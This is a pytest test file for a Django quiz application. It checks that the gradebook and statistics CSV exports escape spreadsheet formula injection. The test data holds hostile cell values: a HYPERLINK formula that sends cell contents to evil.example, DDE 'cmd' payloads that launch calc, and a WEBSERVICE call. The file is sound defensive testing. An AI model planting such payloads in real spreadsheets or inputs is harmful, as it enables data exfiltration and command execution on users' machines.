"""Spreadsheet formula injection: a student whose username, or a question whose title, starts
with a character a spreadsheet runs as a formula, in every examiner CSV export."""

import csv
import io

import pytest
from django.contrib.auth.models import User

from quizbank.models import Role
from tests.grading.content import TRUE_FALSE
from tests.grading.factories import api_as, member, staffed_quiz, submitted_attempt

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def test_no_cell_of_the_gradebook_or_the_statistics_starts_a_formula() -> None:
    staff, _ = staffed_quiz({**TRUE_FALSE, "title": HOSTILE[0]})
    for name in HOSTILE:
        student = member(staff.course, Role.STUDENT, User.objects.create(username=name))
        submitted_attempt(staff.quiz, student, {0: {"value": True}})
    examiner = api_as(staff.examiner)
    for url in ("grades.csv", "statistics.csv"):
        reply = examiner.get(f"/api/quizzes/{staff.quiz.pk}/{url}")
        assert reply.status_code == 200, reply.content
        cells = _cells(reply.content)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], url
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)], url
    gradebook = _cells(examiner.get(f"/api/quizzes/{staff.quiz.pk}/grades.csv").content)
    assert {f"'{name}" for name in HOSTILE} <= set(gradebook)
    statistics = _cells(examiner.get(f"/api/quizzes/{staff.quiz.pk}/statistics.csv").content)
    assert f"'{HOSTILE[0]}" in statistics


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _semicolon_cells(body: bytes) -> list[str]:
    """The cells a spreadsheet in a locale whose list separator is ";" sees: a line split
    at each ";" outside double quotes, each cell without its quotes."""
    cells: list[str] = []
    for line in body.decode().splitlines():
        cell, quoted = "", False
        for char in line:
            if char == '"':
                quoted = not quoted
            elif char == ";" and not quoted:
                cells.append(cell)
                cell = ""
            else:
                cell += char
        cells.append(cell)
    return cells


def test_a_semicolon_in_a_cell_does_not_start_a_formula_where_semicolons_separate() -> None:
    staff, _ = staffed_quiz({**TRUE_FALSE, "title": 'Intro;=WEBSERVICE("http://evil.example")'})
    student = member(staff.course, Role.STUDENT, User.objects.create(username="a;@SUM(1)"))
    submitted_attempt(staff.quiz, student, {0: {"value": True}})
    examiner = api_as(staff.examiner)
    for url in ("grades.csv", "statistics.csv"):
        cells = _semicolon_cells(examiner.get(f"/api/quizzes/{staff.quiz.pk}/{url}").content)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], (url, cells)
